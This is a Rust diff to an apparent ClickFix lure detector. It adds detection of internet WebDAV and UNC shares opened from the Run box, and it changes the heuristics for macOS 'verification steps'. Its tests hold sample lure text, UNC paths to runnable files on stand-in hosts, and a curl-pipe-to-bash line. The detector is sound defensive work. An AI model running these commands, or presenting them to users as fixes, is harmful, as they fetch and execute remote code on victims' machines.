@@ -85,6 +85,9 @@ pub enum Shape {
     Osascript,
     /// `curl`/`wget` piped to a shell, or `sh -c "$(curl …)"`: also how developer tools install.
     PipeToShell,
+    /// A share on an internet host opened from the Run box: a bare `\\host@SSL\DavWWWRoot\x.cmd`
+    /// (WebDAV) or `explorer \\host\share`. IT pages give intranet shares, and show them.
+    UncOpen,
 }
 
 impl Shape {
@@ -109,6 +112,7 @@ impl Shape {
             Shape::DownloadExec => "download_and_run",
             Shape::Osascript => "osascript",
             Shape::PipeToShell => "pipe_to_shell",
+            Shape::UncOpen => "unc_open",
         }
     }
 
@@ -126,7 +130,12 @@ impl Shape {
     pub fn strong(self) -> bool {
         !matches!(
             self,
-            Shape::PowerShell | Shape::Mshta | Shape::Cmd | Shape::Rundll32 | Shape::PipeToShell
+            Shape::PowerShell
+                | Shape::Mshta
+                | Shape::Cmd
+                | Shape::Rundll32
+                | Shape::PipeToShell
+                | Shape::UncOpen
         )
     }
 }
@@ -467,6 +476,31 @@ fn shapes(flat: &str) -> Vec<Shape> {
     if (prog("curl") || prog("wget")) && has_url(flat) && saves_and_starts(&toks) {
         out.push(Shape::DownloadStart);
     }
+    // The whole text is a path (or `explorer`/`start` and a path) to a share outside the
+    // organisation: over WebDAV (`host@SSL`, `DavWWWRoot`), on a bare IP, or naming a script or
+    // program, which the Run box starts. (A printer or a folder on a named host is what IT pages
+    // give.)
+    let opener = toks
+        .first()
+        .is_some_and(|t| matches!(program(t), "explorer" | "start"));
+    let path = toks.get(usize::from(opener)).copied().unwrap_or("");
+    let host = path
+        .get(2..)
+        .unwrap_or("")
+        .split(['\\', '/'])
+        .next()
+        .unwrap_or("");
+    let lure_share = host.contains('@')
+        || has(path, "davwwwroot")
+        || host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
+        || RUNNABLE.iter().any(|e| path.ends_with(e));
+    if path.starts_with("\\\\")
+        && toks.len() <= 1 + usize::from(opener)
+        && lure_share
+        && unc_reaches_out(path)
+    {
+        out.push(Shape::UncOpen);
+    }
 
     // Unix and macOS.
     let fetch = prog("curl") || prog("wget");
@@ -503,6 +537,27 @@ fn shapes(flat: &str) -> Vec<Shape> {
     ordered
 }
 
+/// Extensions Windows runs when a path to them is opened.
+const RUNNABLE: &[&str] = &[
+    ".cmd",
+    ".bat",
+    ".exe",
+    ".scr",
+    ".lnk",
+    ".vbs",
+    ".vbe",
+    ".js",
+    ".jse",
+    ".wsf",
+    ".hta",
+    ".ps1",
+    ".msi",
+    ".pif",
+    ".cpl",
+    ".url",
+    ".search-ms",
+];
+
 /// Every shape, in the order [`Command::shapes`] lists them.
 const ALL_SHAPES: &[Shape] = &[
     Shape::PowerShellDownload,
@@ -523,6 +578,7 @@ const ALL_SHAPES: &[Shape] = &[
     Shape::DownloadExec,
     Shape::Osascript,
     Shape::PipeToShell,
+    Shape::UncOpen,
 ];
 
 /// Characters a whitespace padding is made of: spaces of any width, invisible characters and
@@ -1022,13 +1078,27 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
         && page
             .story()
             .all(|h| matches!(h.cat, Cat::FixPretext | Cat::Error));
-    let windows_run = run_dialog && command.windows_payload() && !docs && !help;
+    // An IT page that gives a share path for the Run box shows it.
+    let shown = page.shows(&command);
+    let unc_only = command.shapes.iter().all(|s| *s == Shape::UncOpen);
+    let windows_run = run_dialog
+        && command.windows_payload()
+        && !docs
+        && !help
+        && !(unc_only && shown && !page_pretext);
     // The Mac variant: Terminal and paste steps are what developer docs say too ("paste this in
     // Terminal"); a strong shape outside install docs makes them ClickFix. `curl … | sh` only
     // with a story (a browser update, a failed check; not docs' "verification steps") AND the
     // command kept off the page: kits hide it, while docs and how-tos ("How to fix 'command not
     // found'") show what they copy.
-    let hidden_story = !page.shows(&command) && page.story().next().is_some();
+    // Docs' "verification steps" come after the install steps (check the download); a kit that
+    // keeps its command off the page heads its steps with them: the check's own.
+    let heads_steps = page.of(Cat::VerifyHuman).any(|v| {
+        page.hits
+            .iter()
+            .any(|s| matches!(s.cat, Cat::PasteStep | Cat::RunTerminal) && s.start >= v.end)
+    });
+    let hidden_story = !shown && (page.story().next().is_some() || heads_steps);
     let mac_run = terminal
         && paste
         && !docs
@@ -1712,6 +1782,53 @@ mod tests {
         ] {
             assert!(judged(clip, text), "{text}");
         }
+    }
+
+    #[test]
+    fn internet_shares_opened_from_the_run_box() {
+        let steps = "Verify you are human. Press Windows + R, press Ctrl + V, press Enter.";
+        for clip in [
+            r"\\cdn-docs.example@SSL\DavWWWRoot\verify\check.cmd",
+            r"explorer.exe \\drive-share.example@SSL\share",
+            r"explorer \\203.0.113.9\public\fax",
+            r"\\files.example.net\pub\view.lnk",
+        ] {
+            assert!(judged(clip, steps), "{clip}");
+            assert!(
+                judged(clip, "Press Win + R, paste and press Enter."),
+                "{clip}"
+            );
+        }
+        // A printer or a folder on a named host, an intranet share, or a path the page shows.
+        for clip in [
+            r"\\print01.corp.example\Floor3",
+            r"explorer.exe \\fs01\team",
+            r"\\fileserver\it$\setup.cmd",
+        ] {
+            assert!(
+                !judged(clip, "Press Win + R, paste and press Enter."),
+                "{clip}"
+            );
+        }
+        let dav = r"\\files.example.edu@SSL\DavWWWRoot\dept";
+        assert!(!judged(
+            dav,
+            &format!("To open the share, press Win + R, paste the path and press Enter.\n{dav}")
+        ));
+    }
+
+    #[test]
+    fn verification_steps_heading_a_hidden_mac_command() {
+        let sh = "curl -fsSL https://mac-chk.example/v.sh | bash";
+        assert!(judged(
+            sh,
+            "Verification steps\n1. Press Command + Space, type Terminal.\n2. Paste with Cmd + V.\n3. Press Return."
+        ));
+        // After the steps it is the docs' check of the download; shown, it is documentation.
+        assert!(!judged(
+            sh,
+            &format!("Verification steps: open Terminal, paste and press Return.\n{sh}")
+        ));
     }
 
     #[test]
